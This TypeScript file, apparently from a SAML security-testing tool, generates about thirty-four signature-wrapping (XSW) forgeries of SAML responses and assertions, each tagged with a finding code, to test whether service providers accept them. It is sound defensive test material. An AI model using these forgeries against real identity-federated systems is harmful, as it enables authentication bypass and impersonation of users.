/**
 * Signature wrapping: what was signed is kept somewhere in the document, something else is put
 * where it will be used. The numbers are those of Somorovsky et al., "On Breaking SAML" (2012), as
 * tools that try them count.
 */
import { freshId } from '../content.ts';
import { signedMetadataOf } from '../metadata.ts';
import { NS } from '../names.ts';
import type { HostileCase } from './cases.ts';
import { assertionOf, evilAssertion, forged, type Live, unsigned } from './live.ts';
import {
  after,
  appended,
  attributeOf,
  before,
  prepended,
  replaced,
  textOf,
  withAttributeOf,
  without,
} from './markup.ts';

const OBJECT = (what: string): string =>
  `<ds:Object xmlns:ds="${NS.signature}">${what}</ds:Object>`;
const EXTENSIONS = (what: string): string =>
  `<samlp:Extensions xmlns:samlp="${NS.protocol}">${what}</samlp:Extensions>`;

/** A forged response with a new id, still carrying the original's signature. */
function evilResponse({ responseSigned }: Live): { evil: string; original: string } {
  const original = without(responseSigned, 'Signature');
  const evil = withAttributeOf(forged(responseSigned), 'Response', 'ID', freshId());
  return { evil, original };
}

/** The forged assertion that carries the signature of the original. */
function evilWithSignature({ assertionSigned }: Live): string {
  const forgedOne = forged(assertionOf(assertionSigned));
  return withAttributeOf(forgedOne, 'Assertion', 'ID', freshId());
}

function original({ assertionSigned }: Live): string {
  return unsigned(assertionOf(assertionSigned));
}

/** The response with its assertion replaced. */
function holding({ assertionSigned }: Live, what: string): string {
  return replaced(assertionSigned, 'Assertion', what);
}

/** The eight classic forms. */
const classic: readonly HostileCase[] = [
  {
    name: 'XSW 1: the signed response inside the signature of a forged one',
    make: (live) => {
      const { evil, original: signed } = evilResponse(live);
      return appended(evil, 'Signature', signed);
    },
    code: 'SAML-009',
  },
  {
    name: 'XSW 2: the signed response before the signature of a forged one',
    make: (live) => {
      const { evil, original: signed } = evilResponse(live);
      return before(evil, 'Signature', signed);
    },
    code: 'SAML-009',
  },
  {
    name: 'XSW 3: a forged assertion before the signed one',
    make: (live) => before(live.assertionSigned, 'Assertion', evilAssertion(live.assertionSigned)),
    code: 'SAML-009',
  },
  {
    name: 'XSW 4: the signed assertion inside a forged one',
    make: (live) => {
      const evil = evilAssertion(live.assertionSigned);
      return holding(live, appended(evil, 'Assertion', assertionOf(live.assertionSigned)));
    },
    code: 'SAML-009',
  },
  {
    name: 'XSW 5: a forged assertion with the signature, the signed one without it at the end',
    make: (live) => appended(holding(live, evilWithSignature(live)), 'Response', original(live)),
    code: 'SAML-009',
  },
  {
    name: 'XSW 6: a forged assertion with the signature, the signed one inside the signature',
    make: (live) => holding(live, appended(evilWithSignature(live), 'Signature', original(live))),
    code: 'SAML-009',
  },
  {
    name: 'XSW 7: a forged assertion inside Extensions',
    make: (live) =>
      before(live.assertionSigned, 'Assertion', EXTENSIONS(evilAssertion(live.assertionSigned))),
    code: 'SAML-009',
  },
  {
    name: 'XSW 8: the signed assertion in an Object inside the signature of a forged one',
    make: (live) =>
      holding(live, appended(evilWithSignature(live), 'Signature', OBJECT(original(live)))),
    code: 'SAML-009',
  },
];

/** Places in which one of the two assertions hides. */
const hidden: readonly HostileCase[] = [
  {
    name: 'a forged assertion after the signed one',
    make: (live) => after(live.assertionSigned, 'Assertion', evilAssertion(live.assertionSigned)),
    code: 'SAML-009',
  },
  {
    name: 'a forged assertion with the id of the signed one before it',
    make: (live) => before(live.assertionSigned, 'Assertion', forged(original(live))),
    code: 'SAML-009',
  },
  {
    name: 'a forged assertion with the id of the signed one after it',
    make: (live) => after(live.assertionSigned, 'Assertion', forged(original(live))),
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside StatusDetail',
    make: (live) => {
      const detail = `<samlp:StatusDetail>${assertionOf(live.assertionSigned)}</samlp:StatusDetail>`;
      return appended(holding(live, evilAssertion(live.assertionSigned)), 'Status', detail);
    },
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside Advice of a forged one',
    make: (live) => {
      const advice = `<saml:Advice>${assertionOf(live.assertionSigned)}</saml:Advice>`;
      return holding(live, after(evilAssertion(live.assertionSigned), 'Conditions', advice));
    },
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside SubjectConfirmationData of a forged one',
    make: (live) => {
      const evil = evilAssertion(live.assertionSigned);
      const open = textOf(evil, 'SubjectConfirmationData').replace(/\/>$/, '>');
      const data = `${open}${assertionOf(live.assertionSigned)}</saml:SubjectConfirmationData>`;
      return holding(live, replaced(evil, 'SubjectConfirmationData', data));
    },
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside an attribute value of a forged one',
    make: (live) =>
      holding(
        live,
        appended(
          evilAssertion(live.assertionSigned),
          'AttributeValue',
          assertionOf(live.assertionSigned),
        ),
      ),
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside an unknown element at the end',
    make: (live) => {
      const kept = `<x:kept xmlns:x="urn:x">${assertionOf(live.assertionSigned)}</x:kept>`;
      return appended(holding(live, evilAssertion(live.assertionSigned)), 'Response', kept);
    },
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion inside KeyInfo of the signature of a forged one',
    make: (live) => holding(live, prepended(evilWithSignature(live), 'KeyInfo', original(live))),
    code: 'SAML-009',
  },
  {
    name: 'the signed assertion and an encrypted one that the attacker made',
    make: (live) => {
      const encrypted = `<saml:EncryptedAssertion xmlns:saml="${NS.assertion}"><x xmlns="urn:x"/></saml:EncryptedAssertion>`;
      return before(live.assertionSigned, 'Assertion', encrypted);
    },
    code: 'SAML-009',
  },
  {
    name: 'a forged assertion beside a signed one in a signed response',
    make: (live) => before(live.bothSigned, 'Assertion', evilAssertion(live.bothSigned)),
    code: 'SAML-009',
  },
  {
    name: 'the signed response inside an Object of the signature of a forged one',
    make: (live) => {
      const { evil, original: signed } = evilResponse(live);
      return appended(evil, 'Signature', OBJECT(signed));
    },
    code: 'SAML-009',
  },
  {
    name: 'no assertion where one is used, the signed one inside Extensions',
    make: (live) =>
      replaced(live.assertionSigned, 'Assertion', EXTENSIONS(assertionOf(live.assertionSigned))),
    code: 'SAML-009',
  },
];

/** Only one assertion is left, and what the signature covers is not it. */
const elsewhere: readonly HostileCase[] = [
  {
    name: 'the signature of the assertion moved to the response',
    make: (live) => {
      const signature = textOf(live.assertionSigned, 'Signature');
      return after(without(live.assertionSigned, 'Signature'), 'Issuer', signature);
    },
    code: 'SAML-020',
  },
  {
    name: 'the signature of the response moved to the assertion',
    make: (live) => {
      const signature = textOf(live.responseSigned, 'Signature');
      const assertion = assertionOf(live.responseSigned);
      const bare = without(live.responseSigned, 'Signature');
      return replaced(bare, 'Assertion', after(assertion, 'Issuer', signature));
    },
    code: 'SAML-020',
  },
  {
    name: 'a forged assertion whose signature refers to an element that is gone',
    make: (live) => holding(live, evilWithSignature(live)),
    code: 'SAML-020',
  },
  {
    name: 'a forged assertion that keeps id and signature',
    make: (live) => holding(live, forged(assertionOf(live.assertionSigned))),
    code: 'SAML-022',
  },
  {
    name: 'the signature inside the Subject of the assertion',
    make: (live) => {
      const signature = textOf(live.assertionSigned, 'Signature');
      const assertion = assertionOf(without(live.assertionSigned, 'Signature'));
      return holding(live, prepended(assertion, 'Subject', signature));
    },
    code: 'SAML-016',
  },
  {
    name: 'the signature inside Status of the response',
    make: (live) => {
      const signature = textOf(live.assertionSigned, 'Signature');
      return prepended(without(live.assertionSigned, 'Signature'), 'Status', signature);
    },
    code: 'SAML-016',
  },
  {
    name: 'a second signature inside the Subject of a signed assertion',
    make: (live) =>
      holding(
        live,
        prepended(
          assertionOf(live.assertionSigned),
          'Subject',
          textOf(live.assertionSigned, 'Signature'),
        ),
      ),
    code: 'SAML-017',
  },
  {
    name: 'a signed metadata document of the identity provider in place of the assertion',
    make: (live) => holding(live, signedMetadata(live)),
    code: 'SAML-009',
  },
  {
    name: 'a forged assertion that holds a signed metadata document of the identity provider',
    make: (live) =>
      holding(
        live,
        appended(evilAssertion(live.assertionSigned), 'Assertion', signedMetadata(live)),
      ),
    code: 'SAML-016',
  },
  {
    name: 'a forged assertion that holds the signature of a metadata document',
    make: (live) =>
      holding(
        live,
        after(
          evilAssertion(live.assertionSigned),
          'Issuer',
          textOf(signedMetadata(live), 'Signature'),
        ),
      ),
    code: 'SAML-020',
  },
  {
    name: 'ids exchanged: the forged assertion has the id that was signed, nothing else has',
    make: (live) => {
      const id = attributeOf(live.bothSigned, 'Assertion', 'ID');
      const bare = without(live.bothSigned, 'Signature');
      return withAttributeOf(forged(bare), 'Response', 'ID', `${id}x`);
    },
    code: 'SAML-022',
  },
  {
    name: 'the content of a signed response changed, its signed assertion is not',
    make: (live) =>
      withAttributeOf(live.bothSigned, 'Response', 'Destination', 'https://evil.test/'),
    code: 'SAML-022',
  },
  {
    name: 'the content of a signed assertion changed inside a response that is signed as well',
    make: (live) => forged(live.bothSigned),
    code: 'SAML-022',
  },
];

/** Something else that the identity provider really signs: its metadata. */
function signedMetadata({ idp }: Live): string {
  const { entityId, pair } = idp;
  return signedMetadataOf({ entityId, keys: [pair] }, idp.signing());
}

/** Every wrapping. */
export const wrappingCases: readonly HostileCase[] = [...classic, ...hidden, ...elsewhere];
